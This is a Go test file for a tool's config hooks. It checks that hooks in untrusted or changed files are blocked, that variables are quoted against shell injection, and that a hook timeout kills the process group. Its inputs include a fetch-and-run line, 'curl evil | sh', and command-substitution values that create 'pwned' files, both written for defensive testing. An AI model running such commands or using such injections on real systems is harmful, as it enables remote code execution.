package config

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

func TestTrustByContentHash(t *testing.T) {
	t.Setenv("XDG_CONFIG_HOME", t.TempDir())
	t.Setenv("HOME", t.TempDir())
	dir := t.TempDir()
	path := filepath.Join(dir, FileName)
	write := func(s string) *Config {
		t.Helper()
		if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
		c, err := Load(dir, "")
		if err != nil {
			t.Fatal(err)
		}
		return c
	}
	c := write("hooks:\n  after: [git push]\n")
	tr, err := LoadTrust()
	if err != nil {
		t.Fatal(err)
	}
	want := "hooks of " + path + " not run: the file is not trusted; read it, then run: clada trust --root " + dir
	if got := tr.HooksBlocked(c); got != want {
		t.Fatalf("untrusted: %q", got)
	}
	if err := tr.Add(c); err != nil {
		t.Fatal(err)
	}
	tr, err = LoadTrust() // from disk
	if err != nil {
		t.Fatal(err)
	}
	if got := tr.HooksBlocked(c); got != "" || tr.State(c) != Trusted {
		t.Fatalf("trusted: %q", got)
	}
	c = write("hooks:\n  after: [curl evil | sh]\n")
	want = "hooks of " + path + " not run: the file changed since you trusted it; read it again, then run: clada trust --root " + dir
	if got := tr.HooksBlocked(c); got != want {
		t.Fatalf("changed: %q", got)
	}
	if got := tr.HooksBlocked(write("format: text\n")); got != "" {
		t.Fatalf("no hooks, nothing to block: %q", got)
	}
}

func TestHookVariablesAreQuoted(t *testing.T) {
	dir := t.TempDir()
	v := HookVars{Summary: `it's "$(touch pwned)"`, Files: []string{"a b.txt", "`touch pwned2`"}, ApplyID: "id-1"}
	h := runHook(context.Background(), dir, "after", `printf '%s\n' {summary} {files} {apply_id} "$CLADA_APPLY_ID" > out.txt`, v, 5*time.Second)
	if h.Err != "" {
		t.Fatalf("hook failed: %s (%s)", h.Err, h.Output)
	}
	got, _ := os.ReadFile(filepath.Join(dir, "out.txt"))
	want := "it's \"$(touch pwned)\"\na b.txt\n`touch pwned2`\nid-1\nid-1\n"
	if string(got) != want {
		t.Fatalf("hook saw %q, want %q", got, want)
	}
	for _, f := range []string{"pwned", "pwned2"} {
		if _, err := os.Stat(filepath.Join(dir, f)); err == nil {
			t.Fatalf("%s was created: a variable ran as code", f)
		}
	}
}

func TestHookTimeoutKillsGroup(t *testing.T) {
	h := runHook(context.Background(), t.TempDir(), "before", "sleep 30 & sleep 30", HookVars{}, 200*time.Millisecond)
	if !strings.HasPrefix(h.Err, "timed out after 200ms") {
		t.Fatalf("Err = %q", h.Err)
	}
}
